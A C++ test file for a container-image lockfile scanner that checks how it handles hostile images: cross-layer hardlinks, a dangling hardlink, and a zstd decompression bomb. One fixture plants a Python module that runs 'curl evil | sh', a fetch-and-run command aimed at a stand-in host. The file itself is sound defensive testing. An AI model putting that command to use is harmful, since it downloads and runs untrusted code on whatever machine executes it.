// Hostile images through the real binary: an image author is not trusted.
// A hardlink across layers must show the bytes a container would run, and
// no small image may make a scan decompress gigabytes.

#include <gtest/gtest.h>

#include "lockfile/sha256.hpp"
#include "scanner/record_parser.hpp"
#include "scanner/support/image_builder.hpp"

namespace envlock::scanner {
namespace {

using namespace envlock::testing;

const std::string kSite = "usr/lib/python3/dist-packages/";

std::string record_hash(const std::string& content) {
  std::string hex = lockfile::sha256_hex(content), raw;
  for (std::size_t i = 0; i < hex.size(); i += 2) raw.push_back(static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16)));
  return "sha256=" + urlsafe_b64(raw);
}

// Layer 1 holds a file somewhere (a package cache); layer 2 installs package
// foo whose module is a hardlink to it, with a RECORD that pins the good bytes.
void write_linked_package_image(const std::string& layout, const std::string& lower_content) {
  const std::string good = "print('good')\n";
  ImageSpec spec;
  spec.layers = {
      {{file("usr/lib/python3.11/os.py", "# stdlib\n"), file("opt/cache/foo/__init__.py", lower_content)},
       Compression::kGzip},
      {{file(kSite + "foo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n"),
        file(kSite + "foo-1.0.dist-info/RECORD",
             "foo/__init__.py," + record_hash(good) + "," + std::to_string(good.size()) +
                 "\nfoo-1.0.dist-info/METADATA,,\nfoo-1.0.dist-info/RECORD,,\n"),
        hardlink(kSite + "foo/__init__.py", "opt/cache/foo/__init__.py")},
       Compression::kGzip},
  };
  write_oci_layout(layout, spec);
}

TEST(HostileImage, AHardlinkToALowerLayerIsCheckedWithTheLowerFilesBytes) {
  TempDir tmp;
  write_linked_package_image(tmp / "good", "print('good')\n");
  write_linked_package_image(tmp / "evil", "import os; os.system('curl evil | sh')\n");
  envlock::testing::Run lock = envlock({"lock", "--image", tmp / "good", "-o", tmp / "good.lock"});
  ASSERT_EQ(lock.status, 0) << lock.err;
  // The module's bytes are the lower file's: they match RECORD, so nothing is wrong with the good image.
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "good", "--format", "json"});
  ASSERT_EQ(scan.status, 0) << scan.err;
  EXPECT_EQ(scan.out.find("__init__.py"), std::string::npos) << scan.out;
  envlock::testing::Run same = envlock({"check", "--lock", tmp / "good.lock", "--image", tmp / "good"});
  EXPECT_EQ(same.status, 0) << same.out << same.err;
  envlock::testing::Run evil = envlock({"check", "--lock", tmp / "good.lock", "--image", tmp / "evil"});
  EXPECT_EQ(evil.status, 1) << evil.out << evil.err;
  EXPECT_NE(evil.out.find("file-modified"), std::string::npos) << evil.out;
  EXPECT_NE(evil.out.find("foo/__init__.py"), std::string::npos) << evil.out;
}

TEST(HostileImage, AHardlinkToNothingIsRefused) {
  TempDir tmp;
  ImageSpec spec;
  spec.layers = {{{file("usr/lib/python3.11/os.py", "")}}, {{hardlink(kSite + "evil.pth", "nowhere")}}};
  BuiltImage built = write_oci_layout(tmp / "img", spec);
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "img"});
  EXPECT_EQ(scan.status, 2);
  EXPECT_EQ(scan.err, "envlock: error: " + tmp / "img" + ": layer blobs/sha256/" + built.layer_blobs[1].substr(7) +
                          ": hardlink /" + kSite + "evil.pth to /nowhere: no such file in its layer or below " +
                          "(a container runtime refuses to unpack it)\n");
}

TEST(HostileImage, AZstdBombListedSixteenTimesIsReadOnceAndRefused) {
  TempDir tmp;
  // 96 MiB of zeros in a few KB; the manifest names it 16 times.
  RawLayer bomb = zero_file_layer("zeros", 96ull << 20);
  ASSERT_LT(bomb.blob.size(), 64u << 10);
  auto digests = write_raw_layout(tmp / "bomb", std::vector<RawLayer>(16, bomb));
  envlock::testing::Run scan = envlock({"scan", "--image", tmp / "bomb"});
  EXPECT_EQ(scan.status, 2);
  EXPECT_EQ(scan.err, "envlock: error: " + tmp / "bomb" + ": layer blobs/sha256/" + digests[0].substr(7) +
                          ": decompresses to more than 2000 times its compressed size past 67108864 bytes "
                          "(a decompression bomb)\n");
}

}  // namespace
}  // namespace envlock::scanner
